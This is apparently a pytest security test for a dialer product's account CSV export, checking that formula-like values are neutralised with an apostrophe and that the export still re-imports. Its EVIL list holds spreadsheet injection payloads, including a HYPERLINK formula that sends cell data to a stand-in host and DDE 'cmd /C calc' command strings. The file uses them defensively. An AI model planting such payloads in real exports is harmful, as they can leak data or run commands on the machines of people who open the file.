"""Formula injection: values imported as given come out of `dialwise accounts export` (and the API)
neutralised, so a spreadsheet shows them as text; phones and numbers stay usable; the export re-imports."""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from agent.campaign.exporter import export_csv, spreadsheet_safe
from agent.campaign.importer import import_csv
from tests.security.conftest import auth

pytestmark = pytest.mark.db

ROOT = Path(__file__).resolve().parents[2]
EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "＝1+1", "=1+1"]


@pytest.mark.parametrize("value", EVIL)
def test_formula_like_values_are_neutralised(value):
    assert spreadsheet_safe(value).startswith("'")


@pytest.mark.parametrize("value", ["+8613812345678", "-12.5", "42", "王芳", "Jane Doe", "a=b", ""])
def test_plain_values_are_kept(value):
    assert spreadsheet_safe(value) == value


def _portfolio() -> str:
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(["external_id", "name", "phone", "timezone", "product", "custom.note"])
    for i, value in enumerate(EVIL):
        w.writerow([f"E-{i}", value, f"+1415555{i:04d}", "America/New_York", value, value])
    return out.getvalue()


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_export_by_api_and_cli_neutralises_and_reimports(env, tmp_path):
    url = env["url"]
    import_csv(io.StringIO(_portfolio(), newline=""), db_url=url)
    r = env["client"].get("/api/accounts/export", headers=auth(env["keys"]["admin"]))
    assert r.status_code == 200
    via_api = r.text
    buf = io.StringIO()
    assert export_csv(buf, db_url=url) == len(EVIL)
    assert buf.getvalue() == via_api
    out = tmp_path / "export.csv"
    proc = subprocess.run([sys.executable, "-c", "from agent.cli import main; main()", "accounts", "export", str(out)],
                          cwd=ROOT, env={**os.environ, "DATABASE_URL": url, "PYTHONPATH": str(ROOT)},
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert out.read_bytes().decode("utf-8") == via_api
    cells = _cells(via_api)
    risky = [c for c in cells if c and (c[0] in "=@\t＝" or (c[0] in "+-" and not c[1:].replace(".", "").isdigit()))]
    assert not risky
    assert "+14155550000" in cells and "custom.note" in cells
    # the export is a valid import file (values keep their apostrophe: shown as text, never run)
    result = import_csv(io.StringIO(via_api, newline=""), db_url=url)
    assert result.updated == len(EVIL) and not result.errors
